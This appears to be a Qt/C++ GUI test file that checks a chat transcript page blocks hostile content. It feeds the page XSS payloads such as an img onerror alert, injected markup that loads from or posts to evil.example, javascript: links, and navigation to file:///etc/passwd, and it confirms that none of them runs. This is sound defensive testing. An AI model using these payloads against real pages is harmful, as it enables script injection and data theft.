// Nothing in an answer loads, runs or leads anywhere, and were there markup in the page, it could
// do nothing.
#include <algorithm>

#include <QSignalSpy>

#include "gui/chat/transcriptpage.h"
#include "tests/gui/pagetest.h"
#include "tests/support/hostiletexts.h"

using namespace argali::gui;

class TestTranscriptSafety : public PageTest {
    Q_OBJECT
private slots:
    void hostileAnswers();
    void hostileTexts();
    void pageRunsNoScripts();
    void goesNowhere();
    void unknownEventsAreIgnored();

private:
    QString strangeNodes();
    void verifyUnharmed();

    QString m_frame; ///< of the page without turns
};

namespace {

/// An answer with the text in every place that Markdown has.
QString everywhere(const QString& text)
{
    const QString line = QString(text).replace(QLatin1Char('\n'), QLatin1Char(' '));
    QStringList blocks{text};
    for (const char* frame : {"[x](%1)",
                              "[x](<%1> \"%1\")",
                              "[%1](https://a.example/)",
                              "![%1](%1)",
                              "<%1>",
                              "**%1**",
                              "`%1`",
                              "```%1\nx\n```",
                              "```html\n%1\n```",
                              "~~~ %1\n%1\n~~~",
                              "$%1$",
                              "$$%1$$",
                              "\\(%1\\) \\[%1\\]",
                              "$\\text{%1}$",
                              "\\begin{align}%1\\end{align}",
                              "| %1 | `%1` |\n|---|---|\n| [%1](%1) | $%1$ |",
                              "# %1",
                              "- [x] %1\n- %1\n  > %1",
                              "> %1",
                              "<ref>%1</ref><box>(0.1,0.2),(0.3,0.4)</box> %1",
                              "00:42 %1"})
        blocks << QString::fromLatin1(frame).replace(QLatin1String("%1"), line);
    return blocks.join(QLatin1String("\n\n"));
}

} // namespace

/// Elements, attributes and addresses on the page that the program does not make.
QString TestTranscriptSafety::strangeNodes()
{
    return evaluate(QStringLiteral(R"js((() => {
        const tags = new Set(`MAIN SECTION ARTICLE DIV SPAN P A B I BUTTON PRE CODE BR HR UL OL LI TABLE THEAD TBODY TR
            TH TD EM STRONG DEL BLOCKQUOTE H1 H2 H3 H4 H5 H6 IMG svg path math semantics annotation`.split(/\s+/));
        const wrong = [];
        for (const e of document.querySelectorAll("main, main *")) {
            const inMath = e.closest(".katex");
            if (!tags.has(e.tagName) && !inMath)
                wrong.push(e.tagName);
            for (const a of e.attributes) {
                if (/^on|^srcdoc$|^action$|^xlink/i.test(a.name))
                    wrong.push(e.tagName + " " + a.name);
                if ((a.name === "href" && !/^(https?|mailto):/.test(a.value)) || (a.name === "src"
                    && !/^data:image\/(png|jpeg);base64,[A-Za-z0-9+\/=]+$/.test(a.value)))
                    wrong.push(a.name + "=" + a.value.slice(0, 80));
                if (a.name === "style" && /url|expression/i.test(a.value))
                    wrong.push("style=" + a.value);
            }
            if (inMath && (e.tagName === "IMG" || e.tagName === "A"))
                wrong.push("formula with " + e.tagName);
        }
        return wrong.join("; ");
    })())js"))
        .toString();
}

/// No script has run, nothing was asked for, and the page is the one it was.
void TestTranscriptSafety::verifyUnharmed()
{
    QCOMPARE(strangeNodes(), QString());
    QCOMPARE(m_view->page()->errorCount(), 0); // the policy would report what it stopped
    QCOMPARE(m_view->profile()->filter().blocked(), 0);
    QCOMPARE(m_view->page()->url(), pageUrl());
    QVERIFY(m_view->isReady());
    QCOMPARE(evaluate(QStringLiteral("document.title")).toString(),
             QString::number(evaluate(QStringLiteral("document.title")).toInt()));
    QCOMPARE(
        evaluate(QStringLiteral(
                     "[...new Set(performance.getEntriesByType('resource').map(e => "
                     "e.name.split(':')[0]))].filter(s => s !== 'argali' && s !== 'data').join()"))
            .toString(),
        QString());
    QCOMPARE(evaluate(QStringLiteral("[document.querySelectorAll('main').length, document.body"
                                     ".children.length, document.head.children.length, "
                                     "document.querySelectorAll('style, link').length].join()"))
                 .toString(),
             m_frame);
}

void TestTranscriptSafety::hostileAnswers()
{
    const QString text = reply("hostile");
    QVERIFY(text.size() > 2000);
    const int allowed = m_view->profile()->filter().allowed();
    QSignalSpy link(m_view.get(), &TranscriptView::linkActivated);
    m_view->addQuestion(1, text, {{picture(9, 9), text.left(300), true}});
    m_view->beginAnswer(1, {text.left(400), text.mid(400, 400)}, 100);
    m_view->appendThinking(1, text, 50);
    m_view->setThinkingDone(1, 100, 50, true);
    m_view->appendText(1, text);
    m_view->finishAnswer(1, text, text);
    start(2);
    for (const QChar c : text)
        m_view->appendText(2, c);
    m_view->failAnswer(2, text, text,
                       {{QStringLiteral("\"><img src=x onerror=alert(1)>"), text.left(300)}});
    settle();
    evaluate(QStringLiteral("document.querySelectorAll('.fold').forEach(f => f.click())"));
    QTest::qWait(300);
    QCOMPARE(strangeNodes(), QString());
    QCOMPARE(evaluate(QStringLiteral("document.title")).toString().toInt(),
             evaluate(QStringLiteral("document.title")).toInt());
    // Every link that is there is one of the three kinds; a click on each only reports.
    evaluate(QStringLiteral("document.querySelectorAll('a').forEach(a => a.click())"));
    QTRY_VERIFY(link.count() > 0);
    QTest::qWait(200);
    for (const auto& arguments : link) {
        const QString scheme = arguments[0].toUrl().scheme();
        QVERIFY(scheme == QLatin1String("https") || scheme == QLatin1String("http") ||
                scheme == QLatin1String("mailto"));
    }
    QCOMPARE(m_view->page()->url(), pageUrl());
    QCOMPARE(m_view->profile()->filter().blocked(), 0); // nothing even tried
    // The page asked for its own fonts at most; pictures are data: and counted when Chromium asks.
    QVERIFY(m_view->profile()->filter().allowed() - allowed < 30);
    QCOMPARE(evaluate(QStringLiteral("[...new Set(performance.getEntriesByType('resource').map(e "
                                     "=> e.name.split(':')[0]))]"
                                     ".filter(s => s !== 'argali' && s !== 'data').join()"))
                 .toString(),
             QString());
}

/// Each of more than 150 texts that are meant to break out, wherever text from outside is shown.
void TestTranscriptSafety::hostileTexts()
{
    const QStringList texts = argali::test::hostileTexts();
    QVERIFY2(texts.size() >= 200, qPrintable(QString::number(texts.size())));
    m_frame = evaluate(QStringLiteral("[document.querySelectorAll('main').length, document.body"
                                      ".children.length, document.head.children.length, "
                                      "document.querySelectorAll('style, link').length].join()"))
                  .toString();
    constexpr qsizetype together = 20;
    for (qsizetype first = 0; first < texts.size(); first += together) {
        for (qsizetype i = first; i < std::min(first + together, texts.size()); ++i) {
            const QString& text = texts[i];
            const auto turn = quint64(i + 1);
            m_view->addQuestion(turn, text, {{picture(9, 9), text, i % 2 == 0}});
            m_view->beginAnswer(turn, {text, text}, 100);
            m_view->appendThinking(turn, everywhere(text), 50);
            m_view->setThinkingDone(turn, 100, 50, true);
            const QString answer = everywhere(text);
            m_view->appendText(turn, answer.left(answer.size() / 2));
            if (i % 3 == 0)
                dom(0); // half of it is on the page for a while
            m_view->appendText(turn, answer.mid(answer.size() / 2));
            if (i % 2 == 0)
                m_view->finishAnswer(turn, text, text);
            else
                m_view->failAnswer(turn, text, text, {{text, text}});
        }
        settle();
        evaluate(QStringLiteral("document.querySelectorAll('.fold').forEach(f => f.click());"
                                "document.querySelectorAll('main a, main .live').forEach(a => "
                                "a.click())"));
        settle();
        verifyUnharmed();
        QVERIFY2(!QTest::currentTestFailed(), qPrintable(texts[first]));
        // What is shown is what came: nothing was taken for markup and left out.
        for (qsizetype i = first; i < std::min(first + together, texts.size()); ++i) {
            QCOMPARE(evaluate(QStringLiteral("argali.turns.views.get('%1').section.querySelector("
                                             "'.bubble').textContent")
                                  .arg(i + 1))
                         .toString(),
                     texts[i]);
        }
        m_view->clear();
        dom(0);
    }
}

/// Should markup get into the page after all, its policy lets it do nothing.
void TestTranscriptSafety::pageRunsNoScripts()
{
    m_isSpoilt = true;
    const int blocked = m_view->profile()->filter().blocked();
    evaluate(QStringLiteral(R"js(
        const box = document.createElement("div");
        document.body.append(box);
        box.innerHTML = `<img src="https://evil.example/a.png" onerror="document.body.dataset.ran = 1">
            <svg onload="document.body.dataset.ran = 2"></svg><iframe src="https://evil.example"></iframe>
            <iframe srcdoc="<script>parent.document.body.dataset.ran = 3<\/script>"></iframe>
            <object data="https://evil.example/o"></object><embed src="https://evil.example/e">
            <video src="https://evil.example/v.mp4" autoplay></video><link rel="stylesheet" href="https://evil.example/s.css">
            <style>@import "https://evil.example/i.css"; body { background: url(https://evil.example/b.png) }</style>
            <div style="background: url(https://evil.example/d.png)">x</div>
            <a id="js" href="javascript:document.body.dataset.ran = 4">x</a><button id="on" onclick="document.body.dataset.ran = 5">x</button>
            <form id="form" action="https://evil.example"><input name="a"></form>`;
        const script = document.createElement("script");
        script.textContent = "document.body.dataset.ran = 6";
        box.append(script);
        const remote = document.createElement("script");
        remote.src = "https://evil.example/s.js";
        box.append(remote);
        document.getElementById("on").click();
        document.getElementById("form").submit();
        const meta = document.createElement("meta");
        meta.httpEquiv = "refresh";
        meta.content = "0;url=https://evil.example";
        document.head.append(meta);
    )js"));
    QTest::qWait(500);
    QVERIFY(!evaluate(QStringLiteral("'ran' in document.body.dataset")).toBool());
    QCOMPARE(m_view->page()->url(), pageUrl());
    // A frame or a form may be asked about and is then refused; the policy stops the rest before
    // that.
    QVERIFY(m_view->profile()->filter().blocked() - blocked <= 3);
    QVERIFY(!evaluate(QStringLiteral("typeof argali"), QWebEngineScript::MainWorld)
                 .toString()
                 .contains(QLatin1String("object")));
}

void TestTranscriptSafety::goesNowhere()
{
    m_isSpoilt = true;
    ask(1, QStringLiteral("still here"));
    dom(0);
    for (const char* address : {"https://evil.example/", "file:///etc/passwd", "data:text/html,x",
                                "argali://page/page.css", "argali://other/", "chrome://version",
                                "blob:argali://page/x"}) {
        evaluate(QStringLiteral("location.href = '%1'").arg(QLatin1String(address)));
        QTest::qWait(50);
    }
    QTest::qWait(200);
    QCOMPARE(m_view->page()->url(), pageUrl());
    QTRY_COMPARE_WITH_TIMEOUT(dom(1), QStringLiteral("still here"), patience);
    QCOMPARE(evaluate(QStringLiteral("window.open('https://evil.example') === null")).toBool(),
             true);
    QVERIFY(evaluate(QStringLiteral("(() => { try { return localStorage.length >= 0; } catch (e) { "
                                    "return false; } })()"))
                .toBool() == false);
    // The one address that Chromium goes to without asking; nothing in the page can, but then it
    // comes back.
    evaluate(QStringLiteral("location.href = 'about:blank'"));
    QTRY_VERIFY_WITH_TIMEOUT(!m_view->isReady(), patience);
    QTRY_VERIFY_WITH_TIMEOUT(m_view->isReady(), patience);
    QCOMPARE(dom(1), QStringLiteral("still here"));
    QCOMPARE(m_view->page()->url(), pageUrl());
}

void TestTranscriptSafety::unknownEventsAreIgnored()
{
    ask(1, QStringLiteral("x"));
    m_view->failAnswer(1, QStringLiteral("s"), {},
                       {{QStringLiteral("again"), QStringLiteral("Again")}});
    dom(0);
    QSignalSpy link(m_view.get(), &TranscriptView::linkActivated);
    QSignalSpy copy(m_view.get(), &TranscriptView::copyRequested);
    QSignalSpy action(m_view.get(), &TranscriptView::actionRequested);
    evaluate(QStringLiteral("argali.ring({what: 'link', url: 'file:///etc/passwd'}); "
                            "argali.ring({what: 'link', url: 'javascript:1'});"
                            "argali.ring({what: 'copy', turn: '2'}); argali.ring({what: 'copy', "
                            "turn: {}}); argali.ring({what: 'copy'});"
                            "argali.ring({what: 'action', turn: '1', id: 'other'}); "
                            "argali.ring('copy'); argali.ring(null);"
                            "argali.ring({what: 'copy', turn: '1'})"));
    QTRY_COMPARE(copy.count(), 1); // the last one
    QCOMPARE(link.count(), 0);
    QCOMPARE(action.count(), 0);
}

int main(int argc, char** argv)
{
    return runPageTest<TestTranscriptSafety>(argc, argv);
}

#include "tst_transcriptsafety.moc"
